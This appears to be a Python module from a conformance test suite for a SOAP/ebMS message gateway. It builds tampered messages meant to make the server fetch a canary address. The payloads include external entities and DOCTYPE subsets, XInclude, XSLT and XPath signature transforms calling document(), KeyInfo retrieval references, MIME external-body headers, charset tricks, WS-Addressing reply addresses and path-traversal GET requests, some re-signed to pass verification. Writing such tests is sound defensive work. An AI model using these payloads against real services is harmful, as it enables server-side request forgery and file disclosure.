"""Messages that ask their reader to fetch something: a canary, by every name that a message can give it.

Each is made for one address: of a file, of a listener, of a host that exists nowhere.  Those
that can be are signed after the address was put in, so that no wrong signature hides them.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import PurePosixPath
from typing import Any
from urllib.parse import urlsplit
from xml.sax.saxutils import quoteattr

from lxml import etree

from gateway.message_model import Payload
from gateway.wire import parse_xml, serialize_element
from gateway.xmlsec import sign_document
from gateway_conformance.hostile import (
    AttackerKit,
    HttpRequest,
    OctetMutation,
    append_element,
    get_element,
    insert_element,
    mutate_tree,
    set_attribute,
    swap_octets,
)
from gateway_conformance.hostile.content_mutations import insert_before, recompute_signature
from gateway_conformance.hostile.exchange import RawScript

__all__ = ["documents", "fetching", "knocking", "submitted"]

_INFO, _SIGNED_INFO = "//ds:Signature/ds:KeyInfo", "//ds:Signature/ds:SignedInfo"
_SUBMISSION = (
    '<Submission xmlns="urn:single-window:submission:1" version="1"><Reference>R</Reference></Submission>'
)
_SCHEMA = "http://www.w3.org/2001/XMLSchema-instance"

Play = tuple[str, HttpRequest]


def fetching(bench: AttackerKit, address: str) -> Iterator[Play]:
    """Yield each request under a name, all of them made for `address`."""
    quoted = quoteattr(address)
    yield from _messages(bench, quoted)
    yield from _signatures(bench, quoted)
    yield from _packages(bench, address)
    yield from _calls(bench, quoted)
    for name, document in documents(
        address, lambda root: sign_document(root, bench.get_signer("a"), now=bench.get_current_time())
    ):
        yield f"submission {name}", submitted(bench, document)


def documents(address: str, sign: Callable[[etree._Element], object]) -> Iterator[tuple[str, bytes]]:
    """Yield documents that name `address`; signed where they can be, by `sign`."""
    quoted = quoteattr(address)
    for name, change in _written_into(quoted, "Submission", "Reference"):
        yield name, change(_SUBMISSION.encode())
    for name, change in _said_in(quoted, "Submission"):
        root = parse_xml(change(_SUBMISSION.encode()))
        sign(root)
        yield name, serialize_element(root)
    root = parse_xml(_SUBMISSION.encode())
    sign(root)
    policy = f'<x:Policy xmlns:x="http://uri.etsi.org/01903/v1.3.2#"><x:SPURI>{address}</x:SPURI></x:Policy>'
    root[-1].append(etree.fromstring(policy))
    yield "signature policy", serialize_element(root)


def _written_into(quoted: str, top: str, leaf: str) -> Iterator[tuple[str, OctetMutation]]:
    """Yield what a parser might fetch: document types, entities, instructions."""
    kinds = {
        "external subset": f"<!DOCTYPE x SYSTEM {quoted}>",
        "public subset": f'<!DOCTYPE x PUBLIC "-//X//DTD//EN" {quoted}>',
        "parameter entity": f"<!DOCTYPE x [<!ENTITY % p SYSTEM {quoted}> %p;]>",
        "unparsed entity": f"<!DOCTYPE x [<!NOTATION n SYSTEM {quoted}><!ENTITY e SYSTEM {quoted} NDATA n>]>",
        "stylesheet": f'<?xml-stylesheet type="text/xsl" href={quoted}?>',
        "schema instruction": f"<?xml-model href={quoted}?>",
    }
    for name, text in kinds.items():
        yield name, insert_before(f"<{top}", text)
    entity = f"<!DOCTYPE x [<!ENTITY e SYSTEM {quoted}>]>"
    yield (
        "external entity",
        lambda data: insert_before(f"<{top}", entity)(swap_octets(f"</{leaf}>", f"&e;</{leaf}>")(data)),
    )


def _said_in(quoted: str, top: str) -> Iterator[tuple[str, OctetMutation]]:
    """Yield what stands in a well-formed document: schema locations, bases, inclusions."""
    schema = f'<{top} xmlns:si="{_SCHEMA}" si:'
    yield "schema location", swap_octets(f"<{top}", f'{schema}schemaLocation="urn:x {quoted[1:-1]}"')
    yield (
        "schema location without namespace",
        swap_octets(f"<{top}", f"{schema}noNamespaceSchemaLocation={quoted}"),
    )
    yield "base", swap_octets(f"<{top}", f"<{top} xml:base={quoted}")
    if "://" in quoted:  # a relative name has no canonical form: nobody can sign it
        yield "namespace", swap_octets(f"<{top}", f"<{top} xmlns:fetch={quoted}")


def _messages(bench: AttackerKit, quoted: str) -> Iterator[Play]:
    for name, change in _written_into(quoted, "soap:Envelope", "eb:ConversationId"):
        yield f"message {name}", bench.build_message(tampered=change)
    for name, change in _said_in(quoted, "soap:Envelope"):
        yield f"message {name}", bench.build_message(envelope=change)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href={quoted} parse="text"/>'
    yield "message inclusion", bench.build_message(envelope=insert_before("</soap:Header>", include))
    yield (
        "manifest",
        bench.build_message(
            envelope=mutate_tree(_first("//eb:Manifest/eb:Reference", "xlink:href", quoted[1:-1]))
        ),
    )
    schema = f'<eb:Schema eb:location={quoted} eb:version="1"/>'
    yield (
        "schema of a payload",
        bench.build_message(envelope=mutate_tree(_into_first("//eb:Manifest/eb:Reference", schema))),
    )
    role = set_attribute("//eb:SyncReply", "soap:actor", quoted[1:-1])
    yield "actor", bench.build_message(tampered=mutate_tree(role))
    service = swap_octets(
        "<eb:Action>", f"<eb:Description xml:lang='en'>{quoted[1:-1]}</eb:Description><eb:Action>"
    )
    yield "description", bench.build_message(envelope=service)


def _first(path: str, name: str, value: str) -> Callable[[etree._Element], object]:
    return set_attribute(f"({path})[1]", name, value)


def _into_first(path: str, text: str) -> Callable[[etree._Element], object]:
    return insert_element(f"({path})[1]", text)


def _signatures(bench: AttackerKit, quoted: str) -> Iterator[Play]:
    address, again = quoted[1:-1], recompute_signature(bench.get_signer("a"))
    part = f"{_SIGNED_INFO}/ds:Reference[starts-with(@URI, 'cid:')]"
    document = f"{_SIGNED_INFO}/ds:Reference[@URI='']"
    xslt = (
        '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><t:stylesheet version="1.0" '
        f'xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:import href={quoted}/><t:template match="/">'
        f"<t:value-of select=\"document('{address}')\"/></t:template></t:stylesheet></ds:Transform>"
    )
    xpath = (
        '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116">'
        f"<ds:XPath>document('{address}')</ds:XPath></ds:Transform>"
    )
    sha256 = "http://www.w3.org/2001/04/xmlenc#sha256"
    digest = f'<ds:DigestMethod Algorithm="{sha256}"/><ds:DigestValue>QUJD</ds:DigestValue>'
    inner = f"<ds:Reference URI={quoted}>{digest}</ds:Reference>"
    manifest = f"<ds:Object><ds:Manifest Id='m'>{inner}</ds:Manifest></ds:Object>"
    named = (
        f'<ds:Reference Type="http://www.w3.org/2000/09/xmldsig#Manifest" URI="#m">{digest}</ds:Reference>'
    )
    changes: dict[str, tuple[Any, ...]] = {
        "reference": (_first(part, "URI", address), again),
        "reference of the envelope": (set_attribute(document, "URI", address), again),
        "a further reference": (
            append_element(_SIGNED_INFO, f"<ds:Reference URI={quoted}>{digest}</ds:Reference>"),
            again,
        ),
        "stylesheet transform": (append_element(f"{document}/ds:Transforms", xslt), again),
        "path transform": (append_element(f"{document}/ds:Transforms", xpath), again),
        "manifest of a signature": (
            append_element(_SIGNED_INFO, named),
            append_element("//ds:Signature", manifest),
            again,
        ),
        "retrieval method": (insert_element(_INFO, f"<ds:RetrievalMethod URI={quoted} Type='urn:x509'/>"),),
        "only a retrieval method": (_emptied, insert_element(_INFO, f"<ds:RetrievalMethod URI={quoted}/>")),
        "key info reference": (insert_element(_INFO, f"<ds11:KeyInfoReference URI={quoted}/>"),),
        "key name": (_emptied, insert_element(_INFO, f"<ds:KeyName>{address}</ds:KeyName>")),
        "algorithm": (_first("//ds:SignatureMethod", "Algorithm", address), again),
        "canonicalization": (_first("//ds:CanonicalizationMethod", "Algorithm", address), again),
    }
    for name, steps in changes.items():
        yield name, bench.build_message(tampered=mutate_tree(*steps))


def _emptied(root: etree._Element) -> None:
    info = get_element(root, _INFO)
    for child in list(info):
        info.remove(child)


def _packages(bench: AttackerKit, address: str) -> Iterator[Play]:
    part, path = "Content-Type: application/xml", urlsplit(address).path
    fields = {
        "content location": f"Content-Location: {address}\r\n{part}",
        "external body": f'Content-Type: message/external-body; access-type=URL; URL="{address}"',
        "local file": f'Content-Type: message/external-body; access-type=local-file; name="{path}"',
        "file name": f'Content-Disposition: attachment; filename="{path}"\r\n{part}',
        "part charset": f'{part}; charset="{PurePosixPath(path).stem}"; name="{address}"',
    }
    for name, text in fields.items():
        yield name, bench.build_message(body=swap_octets(part, text))
    for charset in ("utf_7", "idna", "unicode_escape", "hz", "cp037", "../../canary", "__builtin__", "rot13"):
        content = swap_text("multipart/related;", f"multipart/related; charset={charset};")
        yield f"charset {charset}", bench.build_message(content_type=content)
        yield f"call charset {charset}", bench.build_call(content_type=f"text/xml; charset={charset}")
    for codec in ("cp1006", "mac_arabic", "koi8_t"):  # codecs that nothing else would load
        yield (
            f"charset of {codec}",
            bench.build_message(content_type=swap_text("related;", f"related; charset*={codec}''utf-8;")),
        )
        yield f"call charset of {codec}", bench.build_call(content_type=f"text/xml; charset*={codec}''utf-8")
    yield "action", bench.build_message(action=f'"{address}"')
    headers = {
        "Referer": address,
        "X-Forwarded-Host": urlsplit(address).netloc,
        "Forwarded": f"host={address}",
        "Link": address,
    }
    yield "headers", bench.wrap_parcel(bench.build_parcel(), headers)


def swap_text(old: str, new: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, 1)

    return change


def _calls(bench: AttackerKit, quoted: str) -> Iterator[Play]:
    address, again = quoted[1:-1], recompute_signature(bench.get_signer("agency"))
    for name, change in _written_into(quoted, "soap:Envelope", "wsa:Action"):
        yield f"call {name}", bench.build_call(tampered=change)
    for name, change in _said_in(quoted, "soap:Envelope"):
        yield f"call {name}", bench.build_call(envelope=change)
    for where in ("ReplyTo", "FaultTo", "From"):
        to = f"<wsa:{where}><wsa:Address>{address}</wsa:Address></wsa:{where}>"
        yield (
            f"call {where}",
            bench.build_call(envelope=mutate_tree(append_element("/soap:Envelope/soap:Header", to))),
        )
    yield "call to", bench.build_call(addressing={"to": address})
    token = "//wsse:SecurityTokenReference"
    reference = f"({token}/wsse:Reference)"
    changes: dict[str, tuple[Any, ...]] = {
        "call token": (set_attribute(reference, "URI", address),),
        "call token type": (set_attribute("//wsse:BinarySecurityToken", "ValueType", address),),
        "call key identifier": (
            append_element(token, f"<wsse:KeyIdentifier ValueType={quoted}>{address}</wsse:KeyIdentifier>"),
        ),
        "call embedded": (append_element(token, f"<wsse:Embedded ValueType={quoted}/>"),),
        "call reference": (_first("//ds:SignedInfo/ds:Reference", "URI", address), again),
    }
    for name, steps in changes.items():
        yield name, bench.build_call(tampered=mutate_tree(*steps))
    xop = f'<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href={quoted}/>'
    text = "<ApplicationNumber>%s</ApplicationNumber><ReceiptNumber>%s</ReceiptNumber>"
    yield "call inclusion", bench.build_call(content=text % (bench.application_number, xop))
    yield "call value", bench.build_call(content=text % (bench.application_number, address[:100]))


def submitted(bench: AttackerKit, document: bytes) -> HttpRequest:
    unit = bench.make_unit(action="Submit")
    payload = Payload(f"s.{unit.message_id}", "application/xml", document)
    return bench.build_message(
        bench.make_unit(action="Submit", message_id=unit.message_id, payloads=(payload,))
    )


def knocking(address: str) -> Iterator[tuple[str, RawScript]]:
    """Yield what asks by HTTP itself: for other paths, and to be a proxy."""
    path = urlsplit(address).path
    for name, target in {
        "proxy": address,
        "path": path,
        "parent": f"/soap/agency/../../..{path}",
        "coded parent": f"/%2e%2e/%2e%2e{path}",
        "static": f"/static/{path}",
        "imported schema": f"/soap/agency?xsd={address}",
        "wsdl of another": f"/soap/agency?wsdl={address}",
        "double slash": f"//{urlsplit(address).netloc}{path}",
    }.items():
        head = f"GET {target} HTTP/1.1\r\nHost: {{host}}\r\nConnection: close\r\n\r\n"
        yield f"get {name}", RawScript("soap", ((head.encode(), 0.0),))
